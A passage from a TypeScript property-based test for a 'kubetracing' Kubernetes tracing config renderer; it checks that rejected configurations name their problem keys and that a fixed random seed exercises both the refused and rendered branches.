                    const keys = Object.keys(config).map((k) => (k.includes(":") ? k : `kubetracing:${k}`));
                    for (const problem of err.problems) expect(keys.some((k) => problem.includes(k))).toBe(true);
                    return;
                }
                try {
                    checkRendered(config);
                } catch (err) {
                    if (!(err instanceof ConfigError)) throw err;
                    // A combination only the renderer can judge (e.g. containerd alone on k3s): still named.
                    refused++;
                    expect(err.problems.join()).toMatch(/kubetracing:\w+/);
                    return;
                }
                rendered++;
            }),
            // A fixed seed: the branch counts below depend on the draw (one unseeded run drew exactly 50
            // rendered configs), and a test must not pass or fail by chance; this seed draws 323 and 77.
            // Change the seed to explore.
            { numRuns: 400, seed: 1125 },
        );
        // Both branches are exercised, so the property says something either way.
        expect(refused).toBeGreaterThan(50);
        expect(rendered).toBeGreaterThan(50);
    });
});
